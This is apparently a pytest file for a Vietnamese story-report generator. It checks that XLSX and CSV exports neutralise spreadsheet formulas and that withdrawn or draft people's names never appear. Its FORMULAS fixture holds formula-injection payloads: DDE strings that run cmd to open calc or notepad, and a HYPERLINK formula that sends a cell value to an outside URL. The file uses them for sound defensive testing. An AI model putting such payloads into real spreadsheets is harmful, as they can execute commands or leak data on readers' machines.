"""What the tally and the report give away: no formula from a story in a spreadsheet, no name of a
person who withdrew by today (whatever --as-of says), no path, slug or title of a withdrawn story."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from conftest import story_text
from generator.cli import main

FORMULAS = [
    '=HYPERLINK("https://vi-du.vn/?x="&A1,"Bấm vào đây")', "=cmd|' /C notepad'!A0", "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+3", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    " =1+4",
]
WITHDRAWN_NAME = "Đinh Thị Rút"
WITHDRAWN_SLUG = "nguoi-da-rut-lai"
WITHDRAWN_TITLE = "Người đã rút lại sự đồng ý sau ngày sơ kết"


def story(scratch, slug: str, name: str, **fields):
    consent = {"by": "Nguyễn Văn Minh", "date": "2026-01-05", "scope": ["website"]}
    text = story_text(person={"name": "TEN"}, chapter="tinh", date="2026-02-01", consent=consent,
                      title=fields.pop("title", f"Gương tốt {slug}"), **fields)
    # JSON's string is YAML's double-quoted one: the name reaches the story exactly as written.
    scratch.story(f"2026/{slug}.md", text.replace("person: {name: TEN}", f"person:\n  name: {json.dumps(name, ensure_ascii=False)}"))


@pytest.fixture
def repo(scratch):
    for index, formula in enumerate(FORMULAS):
        story(scratch, f"cong-thuc-{index}", formula)
    story(scratch, "o-lai", "Hà Văn Ở Lại")
    story(scratch, WITHDRAWN_SLUG, WITHDRAWN_NAME, title=WITHDRAWN_TITLE, withdrawn="2026-06-01")
    story(scratch, "ban-nhap", "Lê Văn Nháp", draft=True)
    return scratch


def run(repo, capsys, *args: str) -> tuple[int, str, str]:
    code = main(["--root", str(repo.root), *args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_no_formula_from_a_story_in_the_xlsx_and_the_csv_is_neutralised(repo, capsys, tmp_path):
    xlsx, csv_file = tmp_path / "bao-cao.xlsx", tmp_path / "bao-cao.csv"
    assert run(repo, capsys, "report", "--year", "2026", "--format", "xlsx", "--out", str(xlsx))[0] == 0
    book = load_workbook(xlsx)
    names = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                names.append(cell.value)
    assert {formula.strip() for formula in FORMULAS} <= set(names)  # kept as the editor wrote them, as text
    with __import__("zipfile").ZipFile(xlsx) as archive:
        assert not any("<f>" in archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".xml"))
    assert run(repo, capsys, "report", "--year", "2026", "--format", "csv", "--out", str(csv_file))[0] == 0
    cells = [cell for line in csv.reader(io.StringIO(csv_file.read_text(encoding="utf-8-sig"))) for cell in line]
    assert cells and not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))]


def test_tally_json_keeps_counts_and_gives_withdrawn_stories_only_as_a_number(repo, capsys):
    code, out, _ = run(repo, capsys, "tally", "--json", "--as-of", "2026-11-29")
    assert code == 0
    assert WITHDRAWN_SLUG not in out and WITHDRAWN_TITLE not in out and WITHDRAWN_NAME not in out
    assert "ban-nhap" not in out and "Lê Văn Nháp" not in out
    rows = json.loads(out)
    province = next(r for r in rows if r["target"] == "individuals" and r["chapter"] == "tinh" and r["year"] == 2026)
    assert province["reached"] == len(FORMULAS) + 2  # the withdrawn story is counted, the draft is not
    assert province["unnamed_examples"] == 1 and len(province["examples"]) == len(FORMULAS) + 1


@pytest.mark.parametrize("as_of", ["2026-05-15", "2026-11-29"])
def test_a_report_at_any_as_of_never_names_who_withdrew_by_today(repo, capsys, tmp_path, as_of):
    for fmt in ("md", "csv", "xlsx", "docx"):
        out = tmp_path / f"bao-cao.{fmt}"
        code, _, err = run(repo, capsys, "report", "--year", "2026", "--as-of", as_of, "--format", fmt, "--out", str(out))
        assert code == 0, err
        data = out.read_bytes()
        if fmt == "xlsx":
            text = " ".join(str(c.value) for s in load_workbook(out).worksheets for r in s.iter_rows() for c in r)
        elif fmt == "docx":
            from docx import Document
            text = " ".join(p.text for p in Document(out).paragraphs) + " ".join(
                c.text for t in Document(out).tables for r in t.rows for c in r.cells)
        else:
            text = data.decode("utf-8-sig")
        assert WITHDRAWN_NAME not in text and "Lê Văn Nháp" not in text, (fmt, as_of)
        if fmt != "csv":  # the csv holds figures, not the examples' names
            assert "Hà Văn Ở Lại" in text, fmt
    code, out, _ = run(repo, capsys, "tally", "--json", "--as-of", as_of)
    assert WITHDRAWN_SLUG not in out
